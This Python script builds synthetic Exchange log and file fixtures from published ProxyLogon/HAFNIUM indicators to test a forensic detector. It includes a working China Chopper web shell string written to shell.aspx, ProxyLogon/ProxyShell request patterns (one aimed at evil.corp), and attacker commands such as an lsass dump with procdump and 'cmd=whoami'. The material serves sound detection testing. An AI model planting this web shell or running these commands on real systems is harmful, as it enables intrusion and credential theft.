"""Build the Exchange golden inputs from published patterns and record the findings.

There is no public HttpProxy or IIS log of a successful attack, so each case's
``input/`` is written here from the patterns the sources publish (Test-ProxyLogon.ps1,
CISA AA21-062A, Volexity, the Sigma HAFNIUM rules), beside normal traffic that must
not match (autodiscover, OWA logons, product pages). ``expected.json`` is what
``vigile inspect exchange`` finds in it; review its diff before committing.

Run from the repository root: ``.venv/bin/python tests/golden/exchange/regen.py``.
"""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
PROXY_FIELDS = (
    "DateTime,RequestId,ClientIpAddress,UrlHost,UrlStem,AuthenticatedUser,AnchorMailbox,"
    "UserAgent,ServerHostName,HttpStatus,Method,RoutingHint,RequestBytes,ResponseBytes"
)
IIS_FIELDS = (
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes time-taken"
)
OUTLOOK = "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.5095;+Pro)"
BROWSER = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+Chrome/88.0"
CHOPPER = (
    '<script language="JScript" runat="server">function Page_Load()'
    '{eval(Request["exec_code"],"unsafe");}</script>'
)


def proxy_row(ts: str, ip: str, stem: str, user: str, anchor: str, ua: str, status: int) -> str:
    return (
        f'{ts},{ts[-6:]}-req,{ip},mail.contoso.com,{stem},{user},"{anchor}",'
        f'"{ua}",MX01,{status},POST,,512,2048'
    )


def iis_row(ts: str, method: str, stem: str, query: str, ip: str, ua: str, status: int) -> str:
    day, time = ts.split("T")
    return (
        f"{day} {time} 10.0.0.25 {method} {stem} {query or '-'} 443 - {ip} {ua} - "
        f"{status} 0 0 {4096} 31"
    )


def event(channel: str, event_id: int, ts: str, **data: Any) -> str:
    return json.dumps(
        {"Channel": channel, "EventID": event_id, "TimeCreated": ts, "Hostname": "MX01", **data}
    )


def case_httpproxy(root: Path) -> None:
    lines = ["#Software: Microsoft Exchange Server", "#Log-type: HttpProxy Logs"]
    lines += [f"#Fields: {PROXY_FIELDS}"]
    lines += [
        # CVE-2021-26855 as in Test-ProxyLogon: ServerInfo~ anchor, no user.
        proxy_row("2021-03-03T02:11:05.123Z", "203.0.113.7", "/ecp/y.js", "",
                  "ServerInfo~a]@MX01.contoso.com:444/autodiscover/autodiscover.xml?#",
                  "python-requests/2.25.1", 200),
        proxy_row("2021-03-03T02:11:09.456Z", "203.0.113.7", "/ecp/y.js", "",
                  "ServerInfo~a]@MX01.contoso.com:444/mapi/emsmdb?#",
                  "python-requests/2.25.1", 200),
        # CVE-2021-27065 reset through the forged anchor (status 200) and a failed one.
        proxy_row("2021-03-03T02:12:30.000Z", "203.0.113.7", "/ecp/y.js", "",
                  "ServerInfo~a]@MX01:444/ecp/DDI/DDIService.svc/SetObject?"
                  "schema=ResetOABVirtualDirectory#", "python-requests/2.25.1", 200),
        # Negatives: autodiscover and localhost anchors, a normal OWA logon.
        proxy_row("2021-03-03T08:00:00.000Z", "10.0.0.50", "/autodiscover/autodiscover.xml",
                  "CONTOSO\\alice", "ServerInfo~MX01.contoso.com/autodiscover/autodiscover.xml",
                  OUTLOOK, 200),
        proxy_row("2021-03-03T08:00:01.000Z", "127.0.0.1", "/owa/", "",
                  "ServerInfo~localhost/owa/", "AMProbe/Local/ClientAccess", 200),
        proxy_row("2021-03-03T08:05:00.000Z", "10.0.0.51", "/owa/auth.owa", "CONTOSO\\bob",
                  "SMTP:bob@contoso.com", BROWSER, 302),
    ]  # fmt: skip
    write(root / "Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG", lines)


def case_ecp(root: Path) -> None:
    script = CHOPPER.replace('"', '""')
    lines = [
        f'2021-03-03T02:12:29.100Z,MX01,"Set-OabVirtualDirectory -ExternalUrl '
        f'""http://f/#{script}"" -Identity ""OAB (Default Web Site)"""',
        '2021-03-04T09:00:00.000Z,MX01,"Set-OwaVirtualDirectory -ExternalUrl '
        '""https://mail.contoso.com/owa"" -Identity ""owa (Default Web Site)"""',
        '2021-03-04T09:01:00.000Z,MX01,"Get-Mailbox -Identity alice"',
    ]
    write(root / "Logging/ECP/Server/ECPServer2021030302-1.LOG", lines)


def case_oab(root: Path) -> None:
    lines = [
        "2021-03-03T02:13:00.000Z,Download failed and temporary file "
        "'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed",
        "2021-03-04T03:00:00.000Z,Download failed and temporary file 'C:\\Program Files\\"
        "Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\temp\\x.lzx' needs to be removed",
        "2021-03-04T03:00:01.000Z,OAB generation completed",
    ]
    write(root / "Logging/OABGeneratorLog/OABGenerator20210303-1.log", lines)


def case_iis(root: Path) -> None:
    rows = [
        ("2021-03-03T02:11:05", "POST", "/ecp/y.js", "", "203.0.113.7",
         "python-requests/2.25.1", 200),
        ("2021-03-03T02:14:00", "POST", "/owa/auth/Current/themes/resources/logon.css", "",
         "203.0.113.9", "DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)", 200),
        ("2021-03-03T02:15:00", "POST", "/ecp/DDI/DDIService.svc/SetObject",
         "schema=ResetOABVirtualDirectory&msExchEcpCanary=x", "203.0.113.7",
         "ExchangeServicesClient/0.0.0.0", 200),
        ("2021-03-03T02:16:00", "POST", "/aspnet_client/system_web/discover.aspx",
         "cmd=whoami", "203.0.113.8", "antSword/v2.1", 200),
        ("2021-08-13T10:00:00", "POST", "/autodiscover/autodiscover.json",
         "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp",
         "198.51.100.20", "python-requests/2.26.0", 200),
        ("2021-08-13T10:05:00", "GET", "/autodiscover/autodiscover.json",
         "Email=alice%40contoso.com&Protocol=ActiveSync&RedirectCount=1", "10.0.0.60",
         "Outlook-iOS/2.0", 200),
        # A client on the published HAFNIUM address list, with an ordinary-looking request.
        ("2021-03-03T01:59:00", "GET", "/owa/", "", "103.77.192.219", BROWSER, 302),
        # Negatives: OWA logon, its static files, autodiscover, a real crawler's GET.
        ("2021-03-03T08:05:00", "POST", "/owa/auth.owa", "", "10.0.0.51", BROWSER, 302),
        ("2021-03-03T08:05:01", "GET", "/owa/auth/logon.aspx", "url=https://mail/owa",
         "10.0.0.51", BROWSER, 200),
        ("2021-03-03T08:05:02", "GET", "/owa/auth/Current/themes/resources/logon.css", "",
         "10.0.0.51", BROWSER, 200),
        ("2021-03-03T08:06:00", "POST", "/Autodiscover/Autodiscover.xml", "", "10.0.0.50",
         OUTLOOK, 200),
        ("2021-03-03T09:00:00", "GET", "/owa/", "", "66.249.66.1",
         "Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)", 302),
    ]  # fmt: skip
    lines = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0"]
    lines += [f"#Fields: {IIS_FIELDS}"] + [iis_row(*r) for r in rows]
    write(root / "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", lines)


def case_events(root: Path) -> None:
    sysmon, sec = "Microsoft-Windows-Sysmon/Operational", "Security"
    w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    um = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe"
    lines = [
        event(sysmon, 11, "2021-03-03T02:13:01.000Z", Image=w3wp,
              TargetFilename="C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"),
        event(sysmon, 11, "2021-03-03T02:13:02.000Z", Image=w3wp,
              TargetFilename="C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log"),
        event(sysmon, 11, "2021-03-03T03:02:30.000Z", Image=um,
              TargetFilename="C:\\ProgramData\\Microsoft\\update.exe"),
        event(sysmon, 11, "2021-03-03T03:05:00.000Z", Image=um,
              TargetFilename="C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
              "UnifiedMessaging\\temp\\CacheCleanup.bin"),
        event(sysmon, 1, "2021-03-03T02:17:00.000Z", Image="C:\\Windows\\System32\\"
              "WindowsPowerShell\\v1.0\\powershell.exe", ParentImage=w3wp, ProcessId="4242",
              ParentProcessId="1000", CommandLine="powershell -ep bypass -c whoami"),
        event(sec, 4688, "2021-03-03T02:17:00.010Z", NewProcessName="C:\\Windows\\System32\\"
              "WindowsPowerShell\\v1.0\\powershell.exe", ParentProcessName=w3wp,
              NewProcessId="0x1092", ProcessId="0x3e8",
              CommandLine="powershell -ep bypass -c whoami"),
        event(sysmon, 1, "2021-03-03T03:00:00.000Z", Image="C:\\Windows\\Microsoft.NET\\"
              "Framework64\\v4.0.30319\\csc.exe", ParentImage=w3wp, ProcessId="5000",
              ParentProcessId="1000", CommandLine="csc.exe /noconfig"),
        event(sysmon, 1, "2021-03-03T03:01:00.000Z", Image="C:\\Windows\\System32\\WerFault.exe",
              ParentImage=um, ProcessId="5001", ParentProcessId="2000", CommandLine="WerFault"),
        event(sysmon, 1, "2021-03-03T03:02:00.000Z", Image="C:\\Windows\\System32\\cmd.exe",
              ParentImage=um, ProcessId="5002", ParentProcessId="2000",
              CommandLine="cmd /c net group \"Exchange Trusted Subsystem\" /domain"),
        event("Application", 0, "2021-03-03T03:03:00.000Z",
              SourceName="MSExchange Unified Messaging", Level="2",
              Message="An unhandled exception occurred: System.InvalidCastException"),
        event("MSExchange Management", 1, "2021-03-04T10:00:00.000Z",
              SourceName="MSExchange CmdletLogs", Message="Cmdlet suceeded. Cmdlet "
              "Set-OwaVirtualDirectory, parameters -ExternalUrl \"https://mail.contoso.com/owa\""),
        event(sysmon, 1, "2021-03-03T04:00:00.000Z", Image="C:\\root\\procdump64.exe",
              ParentImage="C:\\Windows\\System32\\cmd.exe", ProcessId="6000",
              ParentProcessId="5999",
              CommandLine="procdump64.exe -accepteula -ma lsass.exe C:\\root\\lsass.dmp"),
        event(sysmon, 1, "2021-03-03T04:01:00.000Z", Image="C:\\Windows\\System32\\tasklist.exe",
              ParentImage="C:\\Windows\\explorer.exe", ProcessId="6001", ParentProcessId="10",
              CommandLine="tasklist /fi \"imagename eq lsass.exe\""),
        event("MSExchange Management", 1, "2021-03-03T04:05:00.000Z",
              SourceName="MSExchange CmdletLogs", Message="Cmdlet suceeded. Cmdlet "
              "New-MailboxExportRequest, parameters -Mailbox \"ceo\" -FilePath "
              "\"\\\\MX01\\c$\\inetpub\\wwwroot\\aspnet_client\\ceo.aspx\""),
        event("MSExchange Management", 1, "2021-03-05T10:00:00.000Z",
              SourceName="MSExchange CmdletLogs", Message="Cmdlet suceeded. Cmdlet "
              "New-MailboxExportRequest, parameters -Mailbox \"leaver\" -FilePath "
              "\"\\\\nas01\\pst\\leaver.pst\""),
        event("Application", 4, "2021-03-03T02:11:06.000Z", SourceName="MSExchange Control Panel",
              Level="2", Message="Request for URL 'https://mx01:444/ecp/about.aspx?a=]:444/ecp/"
              "y.js(https://localhost/ecp/y.js)' failed with the following error: "
              "System.NullReferenceException"),
        event("Application", 4, "2021-03-04T11:00:00.000Z", SourceName="MSExchange Control Panel",
              Level="2", Message="Request for URL 'https://mail.contoso.com/ecp/' failed with "
              "the following error: System.Threading.ThreadAbortException"),
        "this line is not JSON",
    ]  # fmt: skip
    write(root / "events/mx01-events.json", lines)


def case_files(root: Path) -> None:
    web = "inetpub/wwwroot/aspnet_client/system_web/4_0_30319"
    auth = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy"
    write(root / web / "shell.aspx", [f'<%@ Page Language="Jscript"%>{CHOPPER}'])
    write(root / auth / "owa/auth/logon.aspx", ['<%@ Page Language="C#" %> product page'])
    write(root / auth / "owa/auth/errorEE.aspx", ['<%@ Page Language="C#" %> odd page'])
    write(root / auth / "ecp/auth/TimeoutLogoff.aspx", ['<%@ Page Language="C#" %>'])
    write(root / "Windows/Temp/lsass.dmp", ["MDMP"])
    write(root / "ProgramData/VSN/it.zip", ["PK not really"])
    write(root / "Logging/notes.log", ["a note somebody left among the logs"])
    (root / "events/broken.evtx").parent.mkdir(parents=True, exist_ok=True)
    (root / "events/broken.evtx").write_bytes(b"ElfFile\x00" + bytes(range(256)) * 4)


def case_exfil(root: Path) -> None:
    lines = ["#Software: Microsoft Internet Information Services 10.0", f"#Fields: {IIS_FIELDS}"]
    for n, client in enumerate(("10.0.0.51", "10.0.0.52", "10.0.0.53", "10.0.0.54")):
        lines.append(iis_row(f"2021-03-03T08:0{n}:00", "POST", "/mapi/emsmdb/", "", client,
                             OUTLOOK, 200).replace(" 4096 ", f" {2_000_000 + n} "))  # fmt: skip
    for minute in range(10, 15):
        lines.append(
            iis_row(f"2021-03-03T02:{minute}:00", "GET", "/owa/service.svc/s/GetFileAttachment",
                    "", "203.0.113.7", BROWSER, 200).replace(" 4096 ", " 150000000 ")
        )  # fmt: skip
    write(root / "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", lines)


CASES = {
    "httpproxy": case_httpproxy,
    "ecp": case_ecp,
    "oab": case_oab,
    "iis": case_iis,
    "events": case_events,
    "files": case_files,
    "exfil": case_exfil,
}


def write(path: Path, lines: list[str]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")


def summarise(input_dir: Path) -> dict[str, Any]:
    """What a golden file records: findings (without file-time), coverage, problems."""
    from vigile.exchange.inspect import inspect_paths

    result = inspect_paths([input_dir])
    findings = []
    for f in result.findings:
        row = {k: v for k, v in f.to_json().items() if k not in ("id", "evidence")}
        if f.evidence.get("kind") == "file":  # a checkout's file times are not stable
            row.pop("window_start"), row.pop("window_end")
        findings.append(row)
    coverage = {
        k: {"files": c.files, "rows": c.rows, "bad_rows": c.bad_rows,
            "oldest": c.oldest.isoformat() if c.oldest else None,
            "newest": c.newest.isoformat() if c.newest else None}
        for k, c in result.collection.coverage.items() if k != "file"
    }  # fmt: skip
    problems = [
        {"file": str(Path(p.origin).relative_to(input_dir)), "message": p.message}
        for p in result.collection.problems
    ]
    return {"findings": findings, "coverage": coverage, "problems": problems}


def main() -> None:
    for name, build in CASES.items():
        case = HERE / name
        shutil.rmtree(case / "input", ignore_errors=True)
        build(case / "input")
        expected = json.dumps(summarise(case / "input"), indent=1, ensure_ascii=False)
        (case / "expected.json").write_text(expected + "\n", encoding="utf-8")
        print(f"wrote {case.relative_to(HERE)}", file=sys.stderr)


if __name__ == "__main__":
    main()
